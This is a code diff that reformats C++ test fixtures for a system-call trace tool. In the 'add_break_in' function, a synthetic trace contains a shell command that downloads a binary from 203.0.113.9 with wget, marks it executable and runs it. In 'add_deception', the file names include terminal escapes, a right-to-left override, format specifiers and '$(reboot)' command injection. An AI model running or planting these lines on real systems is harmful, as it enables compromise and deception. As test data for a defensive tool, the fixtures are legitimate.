@@ -89,14 +89,14 @@ uint32_t start(TraceBuilder& trace, uint32_t parent,
 }
 
 void add_break_in(TraceBuilder& trace) {
-  const uint32_t shell =
-      start(trace, 823, {"/bin/sh", "-c",
-                         "wget -qO /tmp/.x/up http://203.0.113.9/u; "
-                         "chmod +x /tmp/.x/up; /tmp/.x/up"});
+  const uint32_t shell = start(trace, 823,
+                               {"/bin/sh", "-c",
+                                "wget -qO /tmp/.x/up http://203.0.113.9/u; "
+                                "chmod +x /tmp/.x/up; /tmp/.x/up"});
   trace.call(shell, "mkdir", {1, 0700}, 0).text(0, "/tmp/.x");
-  const uint32_t wget = start(
-      trace, shell,
-      {"/usr/bin/wget", "-qO", "/tmp/.x/up", "http://203.0.113.9/u"});
+  const uint32_t wget =
+      start(trace, shell,
+            {"/usr/bin/wget", "-qO", "/tmp/.x/up", "http://203.0.113.9/u"});
   connect_to(trace, wget, 4, "203.0.113.9", 80, 0);
   trace.write(wget, 4, 131).read(wget, 4, 1848);
   trace.create(wget, "/tmp/.x/up", 5).write(wget, 5, 1717).close(wget, 5);
@@ -121,10 +121,12 @@ void add_break_in(TraceBuilder& trace) {
 void add_deception(TraceBuilder& trace) {
   const std::string names[] = {
       "/tmp/\x1b[2J\x1b]0;owned\x07",
-      "/tmp/evil\xe2\x80\xae" "cod.exe",
+      "/tmp/evil\xe2\x80\xae"
+      "cod.exe",
       "/tmp/line\nbreak\rand\ttab",
       "/tmp/\xff\xfe not text",
-      "/tmp/e\xcc\x81" "t\xc3\xa9 \xe6\xbc\xa2\xe5\xad\x97 \xf0\x9f\x92\x80",
+      "/tmp/e\xcc\x81"
+      "t\xc3\xa9 \xe6\xbc\xa2\xe5\xad\x97 \xf0\x9f\x92\x80",
       "/tmp/\xe2\x80\x8b\xe2\x81\xa6hidden",
       "/tmp/%s%n%x $(reboot) `reboot`",
       "/tmp/" + std::string(1 << 20, 'A') + "/tail",
